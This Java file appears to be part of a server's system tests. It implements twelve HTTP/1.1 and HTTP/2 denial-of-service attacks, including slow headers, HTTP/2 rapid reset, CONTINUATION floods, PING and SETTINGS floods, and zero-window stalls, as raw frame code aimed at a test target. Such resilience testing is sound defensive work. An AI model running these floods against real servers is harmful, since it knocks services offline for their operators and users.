package io.lynx.systemtest.hostile;

import static io.lynx.systemtest.load.Http2Frame.CONTINUATION;
import static io.lynx.systemtest.load.Http2Frame.DATA;
import static io.lynx.systemtest.load.Http2Frame.END_HEADERS;
import static io.lynx.systemtest.load.Http2Frame.END_STREAM;
import static io.lynx.systemtest.load.Http2Frame.HEADERS;
import static io.lynx.systemtest.load.Http2Frame.PING;
import static io.lynx.systemtest.load.Http2Frame.RST_STREAM;
import static io.lynx.systemtest.load.Http2Frame.SETTINGS;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;

/** Attacks by HTTP/1.1 and HTTP/2, in clear text or inside of TLS. */
final class FloodAttacks {
    private static final int INITIAL_WINDOW = 4;
    private static final int MAX_OPEN = 5000;

    private final AttackTarget target;

    FloodAttacks(AttackTarget target) {
        this.target = target;
    }

    Stream<Attack> all() {
        return Stream.of(
                new Attack("heads that never end", this::slowHeads),
                new Attack("many idle connections", this::idleConnections),
                new Attack("pipelining without reading", this::pipelining),
                new Attack("resets in every state", this::resets),
                new Attack("streams without end and without acknowledgement", this::endlessStreams),
                new Attack("windows of zero", this::zeroWindows),
                new Attack("rapid resets of streams", this::rapidResets),
                new Attack("pings without reading", this::pings),
                new Attack("settings without reading", this::settings),
                new Attack("continuations without end", this::continuations),
                new Attack("empty frames", this::emptyFrames),
                new Attack("chunks of one byte", this::tinyChunks));
    }

    private static boolean isOver(long endNanos) {
        return System.nanoTime() - endNanos >= 0;
    }

    /** Keeps a connection open until the attack is over, or ends the oldest one instead if there are too many for this process. */
    private static Attacker keep(Attacker attacker, List<Attacker> opened) throws Exception {
        opened.add(attacker);
        if (opened.size() > MAX_OPEN) {
            opened.removeFirst().reset();
        }
        return attacker;
    }

    private void slowHeads(long end, List<Attacker> opened) throws Exception {
        for (int i = 0; i < 500 && !isOver(end); i++) {
            opened.add(target.connect().text("GET /ok HTTP/1.1\r\nHost: a\r\n"));
        }
        while (!isOver(end)) {
            opened.forEach(attacker -> attacker.text("X: y\r\n"));
            Thread.sleep(100);
        }
    }

    private void idleConnections(long end, List<Attacker> opened) throws Exception {
        while (!isOver(end) && opened.size() < 5000) {
            opened.add(target.connect());
        }
        rest(end);
    }

    private static void rest(long end) throws InterruptedException {
        Thread.sleep(Math.max(0, TimeUnit.NANOSECONDS.toMillis(end - System.nanoTime())));
    }

    private void tinyChunks(long end, List<Attacker> opened) throws Exception {
        byte[] chunks = "1\r\nx\r\n".repeat(1000).getBytes(StandardCharsets.US_ASCII);
        for (int i = 0; i < 400 && !isOver(end); i++) {
            opened.add(target.connect().text("POST /upload HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"));
        }
        for (int round = 0; round < 60; round++) {
            for (Attacker attacker : opened) {
                if (isOver(end)) {
                    return;
                }
                attacker.bytes(chunks);
            }
        }
    }

    private void pipelining(long end, List<Attacker> opened) throws Exception {
        byte[] requests = "GET /large HTTP/1.1\r\nHost: a\r\n\r\n".repeat(100).getBytes(StandardCharsets.US_ASCII);
        for (int i = 0; i < 20; i++) {
            Attacker attacker = target.connect();
            opened.add(attacker);
            writeUntil(end, attacker, requests);
        }
        rest(end);
    }

    /** Writes on a thread of its own, which blocks when the server stops reading. */
    private static void writeUntil(long end, Attacker attacker, byte[] bytes) {
        Thread.startVirtualThread(() -> {
            while (!isOver(end) && !attacker.isEnded()) {
                attacker.bytes(bytes);
            }
        });
    }

    private void resets(long end, List<Attacker> opened) throws Exception {
        String[] beginnings = {
            "",
            "GET /ok HT",
            "GET /ok HTTP/1.1\r\nHost: a\r\n\r\n",
            "GET /large HTTP/1.1\r\nHost: a\r\n\r\n",
            "POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 100\r\n\r\nhalf",
            "POST /upload HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhe",
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
        };
        for (int i = 0; !isOver(end); i++) {
            target.connect().text(beginnings[i % beginnings.length]).reset();
            if (i % 50 == 0) {
                Thread.sleep(1);
            }
        }
    }

    private void endlessStreams(long end, List<Attacker> opened) throws Exception {
        byte[] block = Attacker.request("POST", "/upload");
        Attacker attacker = null;
        int stream = 1;
        while (!isOver(end)) {
            if (attacker == null || attacker.isEnded()) {
                attacker = keep(target.http2(), opened);
                stream = 1;
            }
            attacker.bytes(Attacker.frame(HEADERS, END_HEADERS, stream, block));
            stream += 2;
        }
    }

    private void zeroWindows(long end, List<Attacker> opened) throws Exception {
        byte[] block = Attacker.request("GET", "/large");
        for (int i = 0; i < 40; i++) {
            Attacker attacker = target.http2(INITIAL_WINDOW, 0);
            opened.add(attacker);
            for (int stream = 1; stream < 500; stream += 2) {
                attacker.bytes(Attacker.frame(HEADERS, END_HEADERS | END_STREAM, stream, block));
            }
        }
        rest(end);
    }

    private void rapidResets(long end, List<Attacker> opened) throws Exception {
        byte[] block = Attacker.request("GET", "/large");
        byte[] cancel = {0, 0, 0, 8};
        Attacker attacker = null;
        int stream = 1;
        while (!isOver(end)) {
            if (attacker == null || attacker.isEnded()) {
                attacker = keep(target.http2(), opened);
                stream = 1;
            }
            attacker.bytes(Attacker.frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
                    .bytes(Attacker.frame(RST_STREAM, 0, stream, cancel));
            stream += 2;
        }
    }

    private void pings(long end, List<Attacker> opened) throws Exception {
        flood(end, opened, Attacker.frame(PING, 0, 0, new byte[8]));
    }

    private void settings(long end, List<Attacker> opened) throws Exception {
        flood(end, opened, Attacker.frame(SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, 1, 0}));
    }

    private void emptyFrames(long end, List<Attacker> opened) throws Exception {
        byte[] head = Attacker.frame(HEADERS, END_HEADERS, 1, Attacker.request("POST", "/upload"));
        byte[] empty = Attacker.frame(DATA, 0, 1);
        while (!isOver(end)) {
            Attacker attacker = keep(target.http2().bytes(head), opened);
            while (!isOver(end) && !attacker.isEnded()) {
                attacker.bytes(empty);
            }
        }
    }

    private void continuations(long end, List<Attacker> opened) throws Exception {
        byte[] head = Attacker.frame(HEADERS, 0, 1, Attacker.request("GET", "/ok"));
        byte[] field = Attacker.frame(CONTINUATION, 0, 1, (byte) 0, (byte) 1, (byte) 'x', (byte) 1, (byte) 'y');
        while (!isOver(end)) {
            Attacker attacker = keep(target.http2().bytes(head), opened);
            while (!isOver(end) && !attacker.isEnded()) {
                attacker.bytes(field);
            }
        }
    }

    private void flood(long end, List<Attacker> opened, byte[] frame) throws Exception {
        byte[] many = new byte[frame.length * 200];
        for (int i = 0; i < 200; i++) {
            System.arraycopy(frame, 0, many, i * frame.length, frame.length);
        }
        for (int i = 0; i < 10; i++) {
            Attacker attacker = target.http2();
            opened.add(attacker);
            writeUntil(end, attacker, many);
        }
        rest(end);
    }
}
